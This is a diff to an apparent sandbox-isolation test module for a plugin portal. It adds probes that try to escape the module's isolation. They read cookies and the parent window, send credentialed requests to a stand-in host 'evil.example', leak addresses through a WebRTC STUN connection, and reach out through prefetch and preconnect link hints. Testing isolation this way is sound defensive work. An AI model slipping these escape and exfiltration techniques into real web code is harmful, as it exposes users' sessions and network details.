@@ -1,7 +1,7 @@
 // A module that keeps notes, and tries everything that an isolated module must not be able to do.
 globalThis.probes[PROBE.global].chunks.list = (given) => {
   const { createElement: h, useEffect, useState } = given.react
-  const { Link } = given['react-router-dom']
+  const { Link, useLocation } = given['react-router-dom']
   const { i18n, useHost } = given['@portal/sdk']
 
   const outcome = async (attempt) => {
@@ -20,7 +20,20 @@ globalThis.probes[PROBE.global].chunks.list = (given) => {
       request.withCredentials = true
       request.send()
     })
-  const attemptsWith = (client) => ({
+  /** Asks a server for this machine's address, as a call between two browsers begins. The policy of a page says nothing about it. */
+  const peerConnection = async (port) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
+    peer.createDataChannel('wells')
+    await peer.setLocalDescription()
+    await new Promise((resolve) => setTimeout(resolve, 1000))
+    return peer.iceGatheringState
+  }
+  /** Links that ask a browser to get ready for a host. A script does not learn what became of them. */
+  const hint = (host) => {
+    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender'])
+      document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: host }))
+  }
+  const attemptsWith = (client, udp) => ({
     cookie: () => `got ${document.cookie}`,
     'parent document': () => `got ${window.parent.document.title}`,
     'parent location': () => `got ${window.parent.location.href}`,
@@ -40,6 +53,7 @@ globalThis.probes[PROBE.global].chunks.list = (given) => {
     'calls of the second origin': () => sent('/api/session'),
     'calls of the portal': () => sent(`${PROBE.mark}/api/session`),
     'other servers': () => sent('https://evil.example/'),
+    'a peer connection': () => peerConnection(udp),
     eval: () => `got ${new Function('return 1')()}`,
     'inline script': () => {
       const script = document.createElement('script')
@@ -87,6 +101,9 @@ globalThis.probes[PROBE.global].chunks.list = (given) => {
 
   return function HostileListPage() {
     const { client, notify, flags, settings } = useHost()
+    /** Where the test listens. */
+    const at = new URLSearchParams(useLocation().search)
+    const elsewhere = at.get('elsewhere') ?? 'https://evil.example/'
     const [notes, setNotes] = useState(null)
     const [found, setFound] = useState(null)
     const path = `/modules/${PROBE.name}/records/notes`
@@ -112,7 +129,7 @@ globalThis.probes[PROBE.global].chunks.list = (given) => {
         .catch(({ message }) => notify.bad(message))
     const attack = async () => {
       const results = []
-      for (const [name, attempt] of Object.entries(attemptsWith(client)))
+      for (const [name, attempt] of Object.entries(attemptsWith(client, at.get('udp'))))
         results.push({ name, result: await outcome(attempt) })
       setFound(results)
     }
@@ -169,11 +186,8 @@ globalThis.probes[PROBE.global].chunks.list = (given) => {
         },
         'Chatter',
       ),
-      h(
-        'button',
-        { type: 'button', onClick: () => location.assign('https://evil.example/') },
-        'Lead elsewhere',
-      ),
+      h('button', { type: 'button', onClick: () => location.assign(elsewhere) }, 'Lead elsewhere'),
+      h('button', { type: 'button', onClick: () => hint(elsewhere) }, 'Hint at a host'),
       h(Link, { to: `${PROBE.route}/form` }, i18n._(`${PROBE.name}.form`)),
       h(
         'ol',
